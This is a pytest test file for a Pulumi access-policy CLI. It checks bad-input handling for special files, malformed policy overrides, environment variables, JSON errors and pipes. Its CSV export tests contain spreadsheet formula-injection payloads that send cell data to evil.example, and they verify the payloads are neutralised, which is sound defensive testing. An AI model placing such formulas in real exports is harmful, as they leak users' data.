"""Hostile input beyond the file corpus: file kinds, the pack's overrides file, the environment,
the CLI's output contract (JSON errors, pipes, empty filters) and the CSV export.

Each test runs the real CLI or the real function and asserts the exact exit code and message.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

import frontdoor.offline.preview
from frontdoor.commands.cli import main
from frontdoor.domain.base.spreadsheet import csv_cell
from frontdoor.offline.report import AccessRow, render

HERE = Path(__file__).resolve().parent
REPO = HERE.parents[1]
DEMO = REPO / "stacks" / "Pulumi.demo.yaml"
HEADER = "error: bad input, nothing was registered"


@pytest.fixture
def engine_never_runs(monkeypatch: pytest.MonkeyPatch) -> None:
    def forbidden(*_args: object, **_kwargs: object) -> None:
        raise AssertionError("the program ran: something could have been registered")

    monkeypatch.setattr(frontdoor.offline.preview, "run_program", forbidden)


def _preview(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    code = main(["preview", "--stack", "demo", "--quiet", *args])
    captured = capsys.readouterr()
    return code, captured.out, captured.err


# --- files that are not regular, readable files (item 9: "not found" was wrong for all of these) --


def test_a_directory_is_named_as_a_directory(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], engine_never_runs: None
) -> None:
    code, _, err = _preview(capsys, "--config", str(tmp_path))
    assert code == 2
    assert err.splitlines() == [
        HEADER,
        f"{tmp_path}: (file): stack config file is a directory (got '{tmp_path}'). "
        "Fix: give the path of the stack config file inside it",
    ]


def test_a_fifo_is_refused_without_reading_it(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], engine_never_runs: None
) -> None:
    fifo = tmp_path / "Pulumi.demo.yaml"
    os.mkfifo(fifo)  # reading it would block forever
    code, _, err = _preview(capsys, "--config", str(fifo))
    assert code == 2
    assert err.splitlines() == [
        HEADER,
        f"{fifo}: (file): stack config file is a FIFO, not a regular file (got '{fifo}'). "
        "Fix: give the path of the stack config file",
    ]


def test_dev_null_is_a_device(capsys: pytest.CaptureFixture[str], engine_never_runs: None) -> None:
    code, _, err = _preview(capsys, "--estate", "/dev/null")
    assert code == 2
    assert err.splitlines() == [
        HEADER,
        "/dev/null: (file): estate file is a device, not a regular file (got '/dev/null'). "
        "Fix: give the path of the estate file",
    ]


def test_an_unreadable_file_is_bad_input_not_a_crash(
    capsys: pytest.CaptureFixture[str], engine_never_runs: None
) -> None:
    # A regular file whose read fails (EIO): what an unreadable config looks like to the loader. The
    # suite runs as root, for whom chmod 000 does not stop a read.
    unreadable = Path("/proc/self/mem")
    code, _, err = _preview(capsys, "--config", str(unreadable))
    assert code == 2
    assert err.splitlines() == [
        HEADER,
        f"{unreadable}: (file): stack config file cannot be read: Input/output error (got '{unreadable}'). "
        "Fix: check the path and its permissions",
    ]


def test_a_large_estate_is_not_told_to_split(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], engine_never_runs: None
) -> None:
    huge = tmp_path / "estate.yaml"
    with huge.open("w") as out:
        out.truncate(64 * 1024 * 1024 + 1)  # sparse: costs no disk
    code, _, err = _preview(capsys, "--estate", str(huge))
    assert code == 2
    assert err.splitlines() == [
        HEADER,
        f"{huge}: (file): estate file is larger than 67108864 bytes (got '67108865 bytes'). "
        "Fix: remove generated content (an estate of 100,000 accounts is about 10 MB)",
    ]


# --- stacks/policy-config.<stack>.json (item 7: these were exit 3 after the whole program ran) ----


def _with_overrides(tmp_path: Path, text: str) -> Path:
    config = tmp_path / "Pulumi.demo.yaml"
    shutil.copy(DEMO, config)
    (tmp_path / "policy-config.demo.json").write_text(text)
    return config


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            '{"no-iam-users": "advisory",\n "session-duration-limit": {"maxHours": 8},\n'
            ' "no-iam-users": "disabled"}',
            "line 3: duplicate key 'no-iam-users': first at line 1, again at line 3 (YAML would silently "
            "keep only the last one) (got 'no-iam-users'). Fix: remove one of the two, or merge them into "
            "one block (a key appears once per mapping)",
        ),
        (
            '{"no-iam-user": "disabled"}',
            "no-iam-user: no policy with this id in the pack (got 'no-iam-user'). Fix: use one of "
            "abac-attributes-consistent, abac-condition-required, admin-access-restricted, "
            "assignment-push-groups-separate, assignments-to-groups-only, critical-resources-protected, "
            "datadog-monitor-query-type, datadog-slo-metric-created, github-oidc-trust-pinned, "
            "identity-monitors-present, inline-policy-size-limit, "
            "managed-policies-per-permission-set, no-iam-users, no-management-account-assignment, "
            "no-wildcard-inline-admin, okta-push-scope, permission-set-explicit-name, "
            "posture-detectors-present, privileged-worker-types, push-group-keeps-target, "
            "saml-certificate-expiry, scim-token-expiry, scp-attachments-per-target, "
            "scp-deny-iam-users-at-root, scp-size-limit, "
            "session-duration-limit, stack-set-auto-deployment, temporary-grant-expiry, "
            "unused-permission-set, vault-assumed-role-only, vault-session-tags-pinned, vault-ttl-limit "
            "(or all)",
        ),
        (
            '{"unused-permission-set": "off"}',
            "unused-permission-set: not an enforcement level (got 'off'). Fix: use one of advisory, "
            "mandatory, remediate, disabled (`disabled` turns a rule off)",
        ),
        (
            '{"session-duration-limit": {"maxHours": 99}}',
            "session-duration-limit.maxHours: rejected by the rule's config schema: 99 is greater than "
            "the maximum of 12 (got 99). Fix: see policy/rules/ for session-duration-limit's properties "
            "(maxHours, perPermissionSet) and their bounds",
        ),
        (
            '{"session-duration-limit": {"maxHour": 8}}',
            "session-duration-limit: rejected by the rule's config schema: Additional properties are not "
            "allowed ('maxHour' was unexpected) (got {'maxHour': 8}). Fix: see policy/rules/ for "
            "session-duration-limit's properties (maxHours, perPermissionSet) and their bounds",
        ),
        (
            '{"x": ' + "[" * 200 + "]" * 200 + "}",
            "line 1: the document nests deeper than 64 levels (got 'more than 64 levels'). Fix: flatten "
            "it (stack configs and estates nest well under 20 levels)",
        ),
    ],
    ids=["duplicate-key", "unknown-rule", "level-off", "max-hours-99", "unknown-property", "deep"],
)
def test_a_bad_overrides_file_is_exit_2_before_the_program_runs(
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    engine_never_runs: None,
    text: str,
    expected: str,
) -> None:
    config = _with_overrides(tmp_path, text)
    overrides = tmp_path / "policy-config.demo.json"
    code, out, err = _preview(capsys, "--config", str(config))
    assert (code, out) == (2, "")
    assert err.splitlines() == [HEADER, f"{overrides}: {expected}"]
    # `frontdoor policy-config` reads the same file and refuses it the same way.
    assert main(["policy-config", "--stack", "demo", "--config", str(config)]) == 2
    assert capsys.readouterr().err.splitlines() == [HEADER, f"{overrides}: {expected}"]


# --- the environment --------------------------------------------------------------------------------


def test_a_bad_frontdoor_today_is_bad_input(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], engine_never_runs: None
) -> None:
    monkeypatch.setenv("FRONTDOOR_TODAY", "tomorrow")
    code, _, err = _preview(capsys)
    assert code == 2
    assert err.splitlines() == [
        HEADER,
        "(environment): FRONTDOOR_TODAY: not a date (got 'tomorrow'). Fix: write the day as YYYY-MM-DD "
        "(e.g. FRONTDOOR_TODAY=2026-12-01), or unset it to use today",
    ]


# --- the CLI's output contract ------------------------------------------------------------------------


def test_preview_json_prints_a_json_document_on_failure_too(
    capsys: pytest.CaptureFixture[str], engine_never_runs: None
) -> None:
    case = HERE / "configs" / "dup_team_key.yaml"
    code, out, err = _preview(capsys, "--json", "--config", str(case))
    assert code == 2
    message = (
        "line 132: duplicate key 'payments': first at line 81, again at line 132 (YAML would silently "
        "keep only the last one) (got 'payments'). Fix: remove one of the two, or merge them into one "
        "block (a key appears once per mapping)"
    )
    assert json.loads(out) == {
        "stack": "demo",
        "error": {
            "exit_code": 2,
            "message": f"{HEADER}\n{case}: {message}",
            "issues": [
                {
                    "file": str(case),
                    "field": "line 132",
                    "value": "'payments'",
                    "problem": "duplicate key 'payments': first at line 81, again at line 132 (YAML would "
                    "silently keep only the last one)",
                    "fix": "remove one of the two, or merge them into one block (a key appears once per "
                    "mapping)",
                }
            ],
        },
    }
    assert err.splitlines() == [HEADER, f"{case}: {message}"]


def test_piping_into_head_is_not_a_traceback() -> None:
    # `frontdoor schema` writes ~40 KB: more than a pipe holds once the reader has gone.
    command = f"{sys.executable} -m frontdoor schema | head -c 10"
    done = subprocess.run(
        ["bash", "-o", "pipefail", "-c", command], capture_output=True, text=True, cwd=REPO, check=False
    )
    assert done.stdout == '{\n  "$sche'
    assert done.stderr == ""
    # 141 (what a shell reports for SIGPIPE) when the write hit the closed pipe; 0 when the pipe's
    # buffer took everything before `head` exited. Never a traceback either way.
    assert done.returncode in (0, 141)


# --- the SOC 2 export (item 13) -------------------------------------------------------------------------


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r", "\n", "\0"])
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(trigger: str) -> None:
    assert csv_cell(f'{trigger}HYPERLINK("https://evil.example/?"&A1)') == (
        f'\'{trigger}HYPERLINK("https://evil.example/?"&A1)'
    )


def test_plain_cells_are_unchanged() -> None:
    assert [csv_cell(v) for v in ("aws-payments-dev", 'user.team == "x"', "", None)] == [
        "aws-payments-dev",
        'user.team == "x"',
        "",
        None,
    ]


def test_the_csv_export_carries_the_neutralised_members_rule() -> None:
    row = AccessRow(
        group="aws-quality-dev",
        permission_set="DeveloperAccess",
        account_id="100000002009",
        account_name="payments-prod1",
        ou_path="Workloads/Prod",
        session_duration="PT1H",
        members_rule='=HYPERLINK("https://evil.example/?"&user.team)',
        status="synced",
    )
    lines = render([row], "csv").splitlines()
    assert lines[1] == (
        '"aws-quality-dev","DeveloperAccess","100000002009","payments-prod1","Workloads/Prod","PT1H",'
        '"\'=HYPERLINK(""https://evil.example/?""&user.team)","synced","",""'
    )
    # JSON and markdown are not spreadsheets: the value stays as written there.
    assert json.loads(render([row], "json"))[0]["members_rule"] == row.members_rule
